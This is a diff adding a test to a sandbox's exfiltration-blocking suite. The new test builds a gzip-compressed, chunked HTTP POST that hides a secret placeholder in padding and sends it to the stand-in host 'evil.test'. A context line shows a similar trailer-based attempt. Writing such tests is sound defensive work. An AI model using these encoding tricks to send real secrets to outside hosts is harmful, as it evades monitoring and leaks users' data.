@@ -138,6 +138,17 @@ describe("a sandbox that blocks violations gets 403 with the reason", () => {
     expectBlocked(answer, "host-not-allowed");
   });
 
+  it("in a coded body that is streamed to a host to which nothing may be written", async () => {
+    const coded = gzipSync(`${"some text ".repeat(1000)}${secret.placeholder}`);
+    const answer = await send("evil.test", [
+      `POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n`,
+      `${coded.length.toString(16)}\r\n`,
+      coded,
+      "\r\n0\r\n\r\n",
+    ]);
+    expectBlocked(answer, "host-not-allowed");
+  });
+
   it("in a trailer", async () => {
     const answer = await send("evil.test", [
       `POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n`,
